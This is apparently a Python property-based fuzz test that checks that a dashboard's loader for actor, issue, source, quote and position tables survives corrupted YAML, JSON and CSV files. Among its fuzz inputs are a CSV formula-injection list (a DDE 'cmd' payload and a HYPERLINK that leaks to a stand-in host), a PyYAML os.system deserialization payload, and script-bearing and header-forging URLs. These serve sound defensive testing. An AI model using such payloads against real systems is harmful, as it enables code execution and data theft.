"""Random valid briefings, randomly broken: loading never raises, and no valid record is lost because
a neighbour was broken.

A record counts as broken if a mutation touched it, if it lives in a file that was cut or spliced,
or if it refers (directly or through others) to a broken record. Every other record must be kept.
Editors' temporary files beside the files change nothing; no source's address passes unremarked
unless it is safe to link; past any bound of dashboard/formats/limits.py (lowered here, so small
files reach them) a file is refused whole, named, and the rest is kept.
"""

from __future__ import annotations

import copy
import tempfile
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dashboard.briefing import Briefing
from dashboard.catalog import fingerprint
from dashboard.formats import limits
from dashboard.load import load_briefing
from dashboard.problems import Problem, errors
from dashboard.records import (
    ACTOR_KINDS,
    BASES,
    CONFIDENCES,
    OPTIONAL_TABLES,
    QUOTE_KINDS,
    SOURCE_KINDS,
    STANCES,
    TABLE_BY_NAME,
    TABLES,
    Kind,
)

Tables = dict[str, list[dict[str, Any]]]
Mark = tuple[str, int]  # (table, index of the record as generated)

# Any character a person might type or paste, bar NUL (a NUL makes the whole file not text, which
# is a file-level break below) and surrogates (not characters at all). A lone carriage return is
# in: the CSV is written as a careful writer writes it, with such a cell quoted.
_CHARACTER = st.characters(exclude_categories=["Cs"], exclude_characters="\x00")
_PLAIN = st.text(_CHARACTER, min_size=1, max_size=30)
# Digits that str.isdigit accepts and int() refuses ('²'), or takes though they are not ASCII ('٣').
UNICODE_DIGITS = "²³¹⁹٣۴߅१௭๕１𝟘"
# What a spreadsheet runs as a formula when a cell starts with it (OWASP's CSV injection list).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t=", "\r=")
TEXT = st.one_of(
    _PLAIN,
    st.tuples(st.sampled_from(FORMULA_PREFIXES), _PLAIN).map("".join),
    st.text(st.sampled_from(UNICODE_DIGITS + "\r-., "), min_size=1, max_size=8),
    st.sampled_from(
        [
            '=HYPERLINK("http://x.example/?leak","click")',
            "=cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "+1-1",
            "a\rb",
            "line one\r\nline two",
            "x\r",
        ]
    ),
).filter(str.strip)
# Web addresses: real ones, hostile ones, and any text at all.
HOSTS = st.from_regex(r"[a-z0-9]{1,10}(\.[a-z]{2,6}){1,2}", fullmatch=True)
URLS = st.one_of(
    st.builds(
        "{}://{}/{}".format,
        st.sampled_from(["http", "https", "HTTPS"]),
        HOSTS,
        st.text(_CHARACTER, max_size=12),
    ),
    st.sampled_from(
        [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "data:text/html,<b>x</b>",
            "https:///x",
            'https://x.example/a"><img src=https://t.example/p.gif>',
            "https://x.example/a b",
            "https://x.example/\u202egnp.exe",
            "https://x.example/\r\nX-Forged: 1",
            "//x.example/",
            "https://x.example:99999/",
            "https://[::1/",
            "https://x.example/\\",
            "https://\u00adx.example/",
            "vbscript:msgbox",
            "https://user:pass@x.example/",
            "https://例え.jp/パス",
        ]
    ),
    TEXT,
)
IDS = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9_.:\-]{0,10}", fullmatch=True)
DAYS = st.dates(date(1900, 1, 1), date(2100, 12, 31)).map(date.isoformat)
SYNTAX = st.sampled_from(
    [
        "- id: x\n  name: y",
        "]",
        "[",
        "{",
        "}",
        '"',
        "'",
        ",",
        ";",
        "\n",
        "\t",
        "&a",
        "*a",
        "<<: *a",
        "!!python/object/apply:os.system ['touch pwned']",
        "---",
        "...",
        "#",
        ": ",
        "?",
        "|",
        ">",
        '","',
        '"\n',
        "\\",
        "\\ud800",
        "null",
        "~",
        "NO",
        "2024-02-30",
        "=cmd|' /C calc'!A0",
        "２０２４-１１-０２",
        "2024-1²-02",
        "٢٠٢٤-١١-٠٢",
        "\r",
        "\r=1+1",
        "@x",
        "+x",
        "-x",
    ]
)
JUNK = st.one_of(
    TEXT,
    SYNTAX,
    st.integers(),
    st.floats(),
    st.booleans(),
    st.none(),
    st.lists(TEXT, max_size=3),
    st.dictionaries(TEXT, TEXT, max_size=2),
    st.just(""),
    st.just("   "),
    st.integers(100_000, 300_000).map(lambda n: "é" * n),  # a huge value
    st.text(st.characters(codec="utf-8"), max_size=20),
)
# Written into a file in place of a value, past the serialiser that would have escaped it.
RAW = "@@raw@@"
RAW_TEXT = st.sampled_from(
    [
        b'"\\ud800"',
        b'"x \\udc00"',
        b"[" * 3000 + b"]" * 3000,
        b"1" * 5000,
        b"x\x07y",
        b"\x00",
        b"!!python/object/apply:os.system ['touch pwned']",
        b"!!python/name:os.system",
        b"&anchor x",
        b"*anchor",
        b"{a: [b, {c: d}]}",
        b'{"a": 1}',
        b"[1, [2, [3]]]",
        b'"unterminated',
        b"\xff\xfe",
        b"\t",
        b"? [a, b]",
        b"1e999",
        b"NaN",
        b"-0",
    ]
)


@st.composite
def briefings(draw: st.DrawFn) -> Tables:
    """A small valid briefing: every reference names a record that exists."""

    def optional(strategy: st.SearchStrategy[Any]) -> Any:
        return draw(st.one_of(st.none(), strategy))

    actor_ids = draw(st.lists(IDS, min_size=1, max_size=4, unique=True))
    actors = []
    for n, actor in enumerate(actor_ids):
        record = {
            "id": actor,
            "name": draw(TEXT),
            "kind": draw(st.sampled_from(ACTOR_KINDS)),
            "role": optional(TEXT),
            "aliases": optional(st.lists(TEXT, max_size=2)),
        }
        if n and draw(st.booleans()):  # only earlier actors: no loops in a valid briefing
            record["represents"] = draw(st.sampled_from(actor_ids[:n]))
        actors.append(record)
    issue_ids = draw(st.lists(IDS, min_size=1, max_size=3, unique=True))
    issues = [
        {
            "id": issue,
            "title": draw(TEXT),
            "statement": draw(TEXT),
            "topic": optional(TEXT),
            "date": optional(DAYS),
        }
        for issue in issue_ids
    ]
    source_ids = draw(st.lists(IDS, min_size=1, max_size=2, unique=True))
    sources = [
        {
            "id": source,
            "title": draw(TEXT),
            "publisher": draw(TEXT),
            "published": draw(DAYS),
            "kind": draw(st.sampled_from(SOURCE_KINDS)),
            "url": optional(URLS),
        }
        for source in source_ids
    ]
    quote_ids = draw(st.lists(IDS, max_size=4, unique=True))
    quotes = [
        {
            "id": quote,
            "speaker": draw(st.sampled_from(actor_ids)),
            "text": draw(TEXT),
            "source": draw(st.sampled_from(source_ids)),
            "kind": draw(st.sampled_from(QUOTE_KINDS)),
            "date": optional(DAYS),
            "issues": draw(st.lists(st.sampled_from(issue_ids), max_size=2, unique=True)),
        }
        for quote in quote_ids
    ]
    pairs = draw(
        st.lists(st.tuples(st.sampled_from(actor_ids), st.sampled_from(issue_ids)), max_size=4, unique=True)
    )
    positions = []
    for actor, issue in pairs:
        record = {
            "actor": actor,
            "issue": issue,
            "stance": draw(st.sampled_from(STANCES)),
            "as_of": optional(DAYS),
            "basis": draw(st.sampled_from(BASES)),
            "confidence": draw(st.sampled_from(CONFIDENCES)),
            "summary": optional(TEXT),
            "assessed_by": optional(st.sampled_from(actor_ids)),
        }
        if quote_ids:
            record["evidence"] = draw(st.lists(st.sampled_from(quote_ids), max_size=2, unique=True))
        positions.append(record)
    tables = {
        "actors": actors,
        "issues": issues,
        "sources": sources,
        "quotes": quotes,
        "positions": positions,
    }
    # None stands for "not given": drop it, as a person would leave the field out.
    return {
        name: [{k: v for k, v in r.items() if v is not None} for r in records]
        for name, records in tables.items()
    }


# ------------------------------------------------------------------------------------- mutations


@st.composite
def mutations(draw: st.DrawFn, tables: Tables) -> list[tuple[Any, ...]]:
    """Zero to three breakages: of one record (drop a field, junk in it, a broken reference, its
    id given twice), or of a whole file (cut short, junk spliced in, raw text where a value was)."""
    filled = [name for name, records in tables.items() if records]
    found: list[tuple[Any, ...]] = []
    for _ in range(draw(st.integers(0, 3))):
        table = draw(st.sampled_from(filled))
        index = draw(st.integers(0, len(tables[table]) - 1))
        field = draw(st.sampled_from(TABLE_BY_NAME[table].field_names))
        # Raw text is weighted up: it is what reaches the parsers unescaped.
        kind = draw(
            st.sampled_from(
                ["drop", "junk", "junk", "dangling", "twice", "raw", "raw", "raw", "cut", "splice"]
            )
        )
        if kind == "junk":
            found.append((kind, table, index, field, draw(JUNK)))
        elif kind == "raw":
            found.append((kind, table, index, field, draw(RAW_TEXT)))
        elif kind == "cut":
            found.append((kind, table, draw(st.floats(0, 1))))
        elif kind == "splice":
            found.append(
                (
                    kind,
                    table,
                    draw(st.floats(0, 1)),
                    draw(st.one_of(SYNTAX.map(str.encode), st.binary(min_size=1, max_size=4))),
                )
            )
        else:
            found.append((kind, table, index, field))
    return found


# Over the complexity cap: one branch per mutation kind of the fuzzer's table.
def apply_to_records(tables: Tables, found: list[tuple[Any, ...]]) -> set[Mark]:  # noqa: C901
    """Breaks records in place; returns the records touched."""
    touched: set[Mark] = set()
    for kind, table, *rest in found:
        if kind in ("cut", "splice", "raw"):
            # Raw text may leave the file unreadable as a whole: all its records count as broken.
            touched |= {(table, n) for n in range(len(tables[table]))}
            if kind != "raw":
                continue
        index, field = rest[0], rest[1]
        record = tables[table][index]
        touched.add((table, index))
        if kind == "drop":
            record.pop(field, None)
        elif kind == "junk":
            record[field] = rest[2]
        elif kind == "dangling":
            spec = TABLE_BY_NAME[table].field(field)
            if spec.kind is Kind.REF:
                record[field] = "no-such-record"
            elif spec.kind is Kind.REFS:
                record[field] = [*record.get(field, []), "no-such-record"]
        elif kind == "raw":
            record[field] = RAW
        elif kind == "twice":
            # A deep copy: PyYAML writes an object met twice as an anchor and an alias, which the
            # loader refuses for the whole file, rightly, but that would be a break of the file.
            tables[table].append({**copy.deepcopy(record), "summary": "the same key again"})
            touched.add((table, len(tables[table]) - 1))
    return touched


def apply_to_files(folder: Path, fmt: str, found: list[tuple[Any, ...]]) -> None:
    for kind, table, *rest in found:
        path = folder / f"{table}.{fmt}"
        if kind == "cut" and path.exists():
            data = path.read_bytes()
            path.write_bytes(data[: int(len(data) * rest[0])])
        elif kind == "splice" and path.exists():
            data = path.read_bytes()
            at = int(len(data) * rest[0])
            path.write_bytes(data[:at] + rest[1] + data[at:])
        elif kind == "raw" and path.exists():
            data = path.read_bytes()
            for written in (f'"{RAW}"', f"'{RAW}'", RAW):  # as JSON, YAML or CSV wrote it
                if written.encode() in data:
                    path.write_bytes(data.replace(written.encode(), rest[2], 1))
                    break


# ------------------------------------------------------------------------- what must survive


# The generator writes no blocs (an optional table); every other reference is checked.
REFERENCES = [
    (t.name, f.name, f.target)
    for t in TABLES
    if t.name not in OPTIONAL_TABLES
    for f in t.fields
    if f.kind in (Kind.REF, Kind.REFS)
]


def _values(value: Any) -> Iterator[str]:
    if isinstance(value, list):
        yield from (v for v in value if isinstance(v, str))
    elif isinstance(value, str):
        yield value


def broken(original: Tables, mutated: Tables, touched: set[Mark]) -> set[Mark]:
    """The touched records, what refers to them (to any depth), and untouched records whose key
    a mutation may have made collide with theirs (a duplicate sets the later one aside)."""
    spoilt = set(touched)
    changed = True
    while changed:  # refers to a broken record, directly or through others
        changed = False
        bad_ids = {(table, original[table][n].get("id")) for table, n in spoilt if n < len(original[table])}
        for table, field, target in REFERENCES:
            for n, record in enumerate(original[table]):
                if (table, n) not in spoilt and any(
                    (target, v) in bad_ids for v in _values(record.get(field))
                ):
                    spoilt.add((table, n))
                    changed = True
    for table, n in list(touched):
        record = mutated[table][n] if n < len(mutated[table]) else {}
        key_fields = ("actor", "issue") if table == "positions" else ("id",)
        keys = {tuple(_spellings(record.get(f)) for f in key_fields)}
        if n < len(original[table]):
            keys.add(tuple(_spellings(original[table][n].get(f)) for f in key_fields))
        for m, other in enumerate(original[table]):
            if (table, m) not in spoilt and any(
                all(other.get(f) in spelt for f, spelt in zip(key_fields, key, strict=True)) for key in keys
            ):
                spoilt.add((table, m))
    return spoilt


def _spellings(value: Any) -> frozenset[str]:
    """How a value may read back in some format: 5.0 as '5', True as 'true' or 'True'."""
    if isinstance(value, list | dict) or value is None:
        return frozenset()
    spelt = {str(value).strip(), str(value).strip().lower()}
    if isinstance(value, float) and value.is_integer():
        spelt.add(str(int(value)))
    return frozenset(spelt)


def _key(table: str, record: dict[str, Any]) -> tuple[str, ...]:
    return (record["actor"], record["issue"]) if table == "positions" else (record["id"],)


# ----------------------------------------------------------------------------------------- test


EDITOR_FILES = [
    "~$fuzz.xlsx",
    ".~lock.actors.csv#",
    ".#actors.yaml",
    "#quotes.yaml#",
    "issues.json~",
    ".sources.yaml.swp",
    "4913",
    "positions.csv.tmp",
    ".DS_Store",
]


@pytest.mark.slow
@settings(
    max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)
@given(data=st.data(), fmt=st.sampled_from(["yaml", "json", "csv"]))
def test_broken_neighbours_never_cost_a_valid_record(
    mini, safe_to_link, data: st.DataObject, fmt: str
) -> None:
    original = data.draw(briefings(), label="briefing")
    found = data.draw(mutations(original), label="mutations")
    editor_files = data.draw(
        st.lists(st.sampled_from(EDITOR_FILES), unique=True, max_size=3), label="editor files"
    )
    mutated = copy.deepcopy(original)
    touched = apply_to_records(mutated, found)
    with tempfile.TemporaryDirectory() as temporary:
        folder = mini.folder(Path(temporary) / "fuzz", mutated, fmt=fmt, csv_newline="\r\n")
        apply_to_files(folder, fmt, found)
        stamps = fingerprint(folder)
        for name in editor_files:  # an editor mid-save: half a file, or a lock pointing nowhere
            (folder / name).write_bytes(b"\xff\x00half-saved [{")
        assert fingerprint(folder) == stamps  # no reload for an editor's temporary file
        briefing, problems = load_briefing(folder)  # anything raised fails the test

    assert all(isinstance(p, Problem) for p in problems)
    assert not {Path(p.file).name for p in problems} & set(editor_files)
    assert_no_unsafe_address_passes(briefing, problems, safe_to_link)
    assert_references_resolve(briefing)
    for problem in problems:
        str(problem).encode("utf-8")  # printable by `check`: no lone surrogate in a message
    if not found:
        assert errors(problems) == [], [str(p) for p in problems]
    assert_kept(original, briefing, broken(original, mutated, touched), problems)


def assert_kept(original: Tables, briefing: Briefing, spoilt: set[Mark], problems: list[Problem]) -> None:
    """Every record of the original that is not spoilt is in the loaded briefing."""
    for table, records in original.items():
        frame = getattr(briefing, table)
        kept = (
            set(zip(frame["actor"].astype(str), frame["issue"].astype(str), strict=True))
            if (table == "positions")
            else set(zip(frame["id"], strict=True))
        )
        for n, record in enumerate(records):
            if (table, n) not in spoilt:
                assert _key(table, record) in kept, (table, record, [str(p) for p in problems])


def assert_no_unsafe_address_passes(
    briefing: Briefing, problems: list[Problem], safe_to_link: Callable[[str], bool]
) -> None:
    """Every kept source's address is safe to link, or a warning says it is not."""
    warned = [p.message for p in problems if p.field == "url"]
    for source, url in zip(briefing.sources["id"], briefing.sources["url"], strict=True):
        said = any(m.startswith(f"source {source:.60}: url ") for m in warned)
        if isinstance(url, str) and not said:
            assert safe_to_link(url), (source, url)


def assert_references_resolve(briefing: Briefing) -> None:
    """No kept record refers to one that was not kept (the views look every reference up)."""
    for table, field, target in REFERENCES:
        ids = set(getattr(briefing, target)["id"])
        column = getattr(briefing, table)[field]
        values = (
            column.explode().dropna()
            if TABLE_BY_NAME[table].field(field).kind is Kind.REFS
            else column.astype(object).dropna()
        )
        dangling = set(values.astype(str)) - ids
        assert not dangling, (table, field, dangling)
    for table in ("positions",):  # categoricals: a value outside the categories reads as NaN
        frame = getattr(briefing, table)
        assert not frame["actor"].isna().any() and not frame["issue"].isna().any()


@pytest.mark.parametrize("fmt", ["yaml", "json", "csv"])
def test_the_generator_makes_valid_briefings(mini, tmp_path: Path, fmt: str) -> None:
    """The property above rests on this: with no mutation, nothing is wrong and all is kept."""

    @settings(max_examples=5, deadline=None)
    @given(original=briefings())
    def check(original: Tables) -> None:
        with tempfile.TemporaryDirectory(dir=tmp_path) as temporary:
            briefing, problems = load_briefing(
                mini.folder(Path(temporary) / "fuzz", original, fmt=fmt, csv_newline="\r\n")
            )
        assert errors(problems) == [], [str(p) for p in problems]
        assert briefing.counts() == {name: len(records) for name, records in original.items()}

    check()


# ------------------------------------------------------------------------------------------ bounds


# Lowered so that the small briefings above reach them; each is checked as the real one is.
SMALL_BOUNDS: dict[str, Any] = {
    "MAX_ROWS": 12,
    "MAX_COLUMNS": 20,
    "MAX_YAML_VALUES": 400,
    "MAX_JSON_VALUES": 400,
    "MAX_DEPTH": 8,
    "MAX_REPEATS": 3,
}


def grow(path: Path, fmt: str, how: str, size: int) -> None:
    """Makes one table file pass a bound: more rows, values or columns, or deeper nesting."""
    text = path.read_text(encoding="utf-8")
    if fmt == "csv":
        header, _, rest = text.partition("\r\n")
        if how == "wide":
            header += ",extra" * size
        else:
            rest += "x\r\n" * size
        text = header + "\r\n" + rest
    elif fmt == "json":
        filler = ("[" * size + "]" * size) if how == "deep" else ",".join(["1"] * size * 20)
        text = text.rstrip()[:-1].rstrip() + ("," if text.strip() != "[]" else "") + filler + "]"
    else:
        filler = "[" * size + "]" * size if how == "deep" else ", ".join(["a"] * size * 20)
        text = (text if text.strip() != "[]" else "") + f"- [{filler}]\n"
    path.write_text(text, encoding="utf-8")


@pytest.mark.slow
@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)
@given(data=st.data(), fmt=st.sampled_from(["yaml", "json", "csv"]))
def test_past_a_bound_a_file_is_refused_whole_and_the_rest_kept(mini, data: st.DataObject, fmt: str) -> None:
    original = data.draw(briefings(), label="briefing")
    table = data.draw(st.sampled_from([t for t, records in original.items() if records]))
    how = data.draw(st.sampled_from(["long", "wide"] if fmt == "csv" else ["long", "deep"]))
    size = data.draw(st.integers(25, 60), label="size")
    with tempfile.TemporaryDirectory() as temporary, mock.patch.multiple(limits, **SMALL_BOUNDS):
        folder = mini.folder(Path(temporary) / "fuzz", original, fmt=fmt, csv_newline="\r\n")
        grow(folder / f"{table}.{fmt}", fmt, how, size)
        briefing, problems = load_briefing(folder)  # anything raised fails the test

    named = [p for p in errors(problems) if Path(p.file).parts[-2:] == ("fuzz", f"{table}.{fmt}")]
    assert named, [str(p) for p in problems]
    assert len(errors(problems)) <= 12 * 30  # a bounded report: a few kinds, each named 3 times
    assert_references_resolve(briefing)
    spoilt = broken(original, original, {(table, n) for n in range(len(original[table]))})
    assert_kept(original, briefing, spoilt, problems)
